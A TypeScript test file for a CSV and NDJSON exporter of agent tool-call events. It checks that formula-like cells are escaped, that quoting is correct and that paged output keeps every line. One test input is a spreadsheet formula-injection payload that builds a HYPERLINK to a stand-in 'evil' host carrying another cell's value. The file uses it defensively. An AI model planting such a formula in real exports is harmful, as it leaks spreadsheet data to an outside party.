// Events as NDJSON and CSV: cells that a spreadsheet would run, quoting, and pieces that hold every line once.
import { expect, it } from 'vitest';
import { csvHeader, csvLine, ndjsonLine, piecesOf } from '../../src/event/console/lines.ts';
import type { StoredEvent } from '../../src/event/record.ts';

const event = (i: number, more: Partial<StoredEvent> = {}): StoredEvent => ({
  id: `id-${i}`,
  seq: i,
  env: 'production',
  createdAt: 0,
  outcomes: [],
  callId: `call-${i}`,
  agentId: 'a',
  toolName: 't',
  verdict: 'call_allowed',
  mode: 'enforce',
  timestamp: 0,
  payload: null,
  ...more,
});

it.each([
  ['=1+1', "'=1+1"],
  ['+49', "'+49"],
  ['-1', "'-1"],
  ['@SUM(A1)', "'@SUM(A1)"],
  ['  =cmd', "'  =cmd"],
  ['\t=x', "'\t'=x"],
  ['\r=x', `"'\r'=x"`],
  ['\n@x', `"'\n'@x"`],
  ['\uff1d1', "'\uff1d1"],
  ['a=b', 'a=b'],
  // Spreadsheets of many languages begin a cell at a semicolon, and a row at a line end.
  ['x;=HYPERLINK("http://evil/?"&A1)', `"x;'=HYPERLINK(""http://evil/?""&A1)"`],
  ['x; \uff1d1;;@y', "x;' \uff1d1;;'@y"],
  ['a\t+1', "a\t'+1"],
  ['a\r\n -1', `"a\r\n' -1"`],
  ['a;b=1; c - d', 'a;b=1; c - d'],
  ['a,"b"', '"a,""b"""'],
  ['two\nlines', '"two\nlines"'],
  ['', ''],
  [null, ''],
  [-5, "'-5"],
  [{ a: '=1' }, '"{""a"":""=1""}"'],
])('the cell %j is written as %j', (value, cell) => {
  const line = csvLine(event(1, { payload: { reason: value } }));
  expect(line).toContain(`,enforce,,,${cell},,,,call-1,`);
});

it('a line of CSV has a cell for each column, and no field of the payload takes the place of another', () => {
  const payload = {
    decision_name: 'rule',
    verdict: 'forged',
    id: 'forged',
    outcomes: 'forged',
    reason: '=x',
  };
  const line = csvLine(event(1, { payload }));
  expect(csvHeader).toBe(
    'timestamp,env,agent_id,tool_name,verdict,mode,decision_name,decision_source,reason,bundle_name,' +
      'policy_version,run_id,call_id,sent_by,id,created_at,outcomes,payload\r\n',
  );
  expect(line).toMatch(
    /^1970-01-01T00:00:00\S*Z,production,a,t,call_allowed,enforce,rule,,'=x,,,,call-1,,id-1,/,
  );
});

it('pieces hold every line once, in order', async () => {
  const all = Array.from({ length: 3000 }, (_, i) => event(i));
  async function* pages() {
    yield all.slice(0, 2000);
    yield [];
    yield all.slice(2000);
  }
  const pieces: string[] = [];
  for await (const piece of piecesOf(pages(), ndjsonLine, '')) pieces.push(piece);
  expect(pieces.length).toBeGreaterThan(5);
  const lines = pieces.join('').trimEnd().split('\n');
  expect(lines.map((line) => JSON.parse(line).id)).toEqual(all.map(({ id }) => id));
});
